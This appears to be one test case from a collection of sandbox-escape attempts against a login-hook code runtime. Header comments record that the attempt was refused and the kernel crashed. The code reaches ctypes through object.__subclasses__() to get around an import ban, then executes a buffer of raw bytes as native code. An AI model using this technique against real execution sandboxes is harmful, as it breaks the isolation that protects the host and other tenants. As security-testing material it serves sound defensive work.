# origin: facts 5.2
# technique: a jump into bytes that are data
# goal: outside
# outcome: refused:import-not-allowed | refused:underscore-attribute
# kernel: CRASHED
import os
def find_ctypes():
    for kind in object.__subclasses__():
        if kind.__name__ == "CDLL" and kind.__module__ == "ctypes":
            return kind.__init__.__globals__


def on_execute_post_login(event, api):
    ctypes = find_ctypes()
    libc = ctypes["CDLL"](None)
    code = ctypes["create_string_buffer"](b"\xc3" * 64, 64)
    address = ctypes["addressof"](code)
    ctypes["CFUNCTYPE"](None)(address)()
    api.user.set_app_metadata("escaped", "data was run")
